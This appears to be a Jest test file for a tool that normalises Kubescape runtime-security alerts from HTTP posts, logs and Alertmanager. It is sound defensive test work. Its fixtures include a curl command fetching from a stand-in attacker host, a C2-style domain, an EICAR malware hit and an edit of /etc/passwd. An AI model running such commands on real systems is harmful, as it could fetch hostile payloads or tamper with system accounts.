import { describe, expect, test } from '@jest/globals';
import { alertOf, fixture, itemsOf, withoutRaw } from './read.ts';

const list = JSON.parse(fixture('kubescape/rw-http-rule.json'));
const withAlert = (change: object) => ({ ...list, spec: { ...list.spec, alerts: [{ ...list.spec.alerts[0], ...change }] } });

describe('what the node agent posts itself', () => {
  test('of a rule names pod, workload, container, process and where it connects', () => {
    expect(alertOf(list)).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      sensor: 'kubescape',
      rule: 'Unexpected process launched',
      severity: 'critical',
      priority: '10',
      time: '2026-06-01T10:00:00.123456789Z',
      title: 'Unexpected process launched: /usr/bin/curl in: app',
      cluster: 'lab',
      node: 'worker-1',
      pod: { namespace: 'shop', name: 'cart-7d9-x2', uid: '3e41dc6b-08a8-44db-bc2a-3724b18ab19a' },
      workload: { kind: 'Deployment', namespace: 'shop', name: 'cart' },
      container: { id: '84c0b936c919', name: 'app', image: 'docker.io/shop/cart:1.2', digest: 'sha256:00' },
      process: {
        name: 'curl',
        exe: '/usr/bin/curl',
        commandLine: '/usr/bin/curl -s files.evil.example/a',
        parent: 'sh',
        user: 'root',
        pid: 4321,
      },
      observables: [
        { type: 'hash', value: '0123456789abcdef0123456789abcdef' },
        { type: 'path', value: '/usr/bin/curl' },
        { type: 'domain', value: 'files.evil.example' },
        { type: 'user', value: 'root' },
      ],
      tags: ['R0001'],
      mitre: [],
    });
  });

  test('in bulk is one alert each, and one without a time fails alone and says so', () => {
    expect(itemsOf(fixture('kubescape/rw-http-bulk.json')).map(withoutRaw)).toMatchObject([
      {
        alert: {
          rule: 'Malware detected',
          title: 'Malware detected: Eicar-Test-Signature',
          severity: 'critical',
          tags: ['R3000', 'malware'],
          observables: [
            { type: 'path', value: '/tmp/eicar.com' },
            { type: 'hash', value: 'a'.repeat(64) },
          ],
        },
      },
      {
        alert: {
          rule: 'DNS Anomalies in container',
          severity: 'low',
          observables: expect.arrayContaining([
            { type: 'domain', value: 'c2.evil.sbs' },
            { type: 'ip', value: '203.0.113.9' },
          ]),
        },
      },
      { kind: 'rejected', reason: expect.stringContaining('`timestamp`') },
    ]);
  });

  test.each([
    [10, 'critical'],
    [9, 'high'],
    [8, 'high'],
    [5, 'medium'],
    [1, 'low'],
    [0, 'info'],
    [undefined, 'info'],
    ['x', 'unknown'],
  ])('with severity %p is %s', (severity, expected) => expect(alertOf(withAlert({ severity })).severity).toBe(expected));

  test('reporting that its own limit is reached is health, even without a time', () => {
    const [item] = itemsOf(fixture('kubescape/rw-http-limit-reached.json'));
    expect(item).toMatchObject({ kind: 'health', sensor: 'kubescape', host: 'worker-1', text: 'Alert limit reached' });
    expect(item).not.toHaveProperty('time');
  });

  test('about the files of a node is about the node', () => {
    const alert = alertOf(fixture('kubescape/rw-http-fim.json'));
    expect(alert).toMatchObject({
      rule: 'File integrity: change',
      severity: 'unknown',
      title: 'File integrity: change of /etc/passwd',
      node: 'worker-1',
      process: { name: 'vi', commandLine: 'vi /etc/passwd', pid: 41 },
      observables: [
        { type: 'path', value: '/etc/passwd' },
        { type: 'hash', value: 'b'.repeat(64) },
      ],
    });
    expect(alert).not.toHaveProperty('pod');
  });

  test('finds the process in a tree of lists, and copes without the tree', () => {
    const listed = { processTree: { pid: 1, children: [{ pid: 4321, comm: 'curl', cmdline: 'curl x' }] } };
    const change = (processTree: unknown) => ({ ...list, spec: { ...list.spec, processTree } });
    expect(alertOf(change(listed)).process).toMatchObject({ name: 'curl', commandLine: 'curl x' });
    expect(alertOf(change(null)).process).toEqual({
      name: 'curl',
      commandLine: '/usr/bin/curl -s files.evil.example/a',
      pid: 4321,
    });
  });
});

test('a line of its log is the same alert as the post, except for its cloud', () => {
  const { id: _line, ...line } = alertOf(fixture('kubescape/rw-stdout-rule.json'));
  const { id: _post, ...post } = alertOf(list);
  expect(line).toEqual(post);
});

describe('through Alertmanager', () => {
  test('takes the rule from its own labels, and never the agent’s pod as the node', () => {
    const [ofRule, ofMalware] = itemsOf(fixture('kubescape/rw-alertmanager-api.json'));
    expect(ofRule).toMatchObject({
      alert: {
        sensor: 'kubescape',
        rule: 'Unexpected process launched',
        severity: 'critical',
        time: '2026-06-01T10:00:00.000Z',
        title: 'Unexpected process launched: /usr/bin/curl in: app',
        node: 'worker-1',
        pod: { namespace: 'shop', name: 'cart-7d9-x2' },
        container: { id: '84c0b936c919', name: 'app' },
        process: { name: 'curl', parent: 'sh', pid: 4321 },
        tags: ['R0001'],
      },
    });
    expect(ofMalware).toMatchObject({
      alert: {
        rule: 'Malware detected',
        title: 'Malware detected: Eicar-Test-Signature',
        container: { image: 'docker.io/shop/cart:1.2', digest: 'sha256:00' },
        observables: [{ type: 'hash', value: 'a'.repeat(64) }],
      },
    });
  });

  test.each([undefined, 'kubescape', 'alertmanager'])('is the same via the webhook, at the address of %p', (sensor) => {
    const [direct] = itemsOf(fixture('kubescape/rw-alertmanager-api.json'));
    const items = itemsOf(fixture('kubescape/rw-alertmanager-webhook.json'), sensor === undefined ? {} : { sensor });
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'ignored']);
    expect(items[0]).toMatchObject({ alert: direct?.kind === 'alert' ? direct.alert : {} });
  });
});
